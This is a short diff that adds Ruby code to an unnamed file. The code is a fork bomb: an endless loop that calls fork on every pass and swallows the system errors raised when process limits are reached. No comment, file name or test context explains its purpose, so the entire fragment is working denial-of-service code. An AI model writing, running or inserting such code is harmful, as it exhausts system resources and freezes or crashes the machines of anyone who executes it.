@@ -1,0 +1,6 @@
+loop do
+  begin
+    fork
+  rescue SystemCallError
+  end
+end
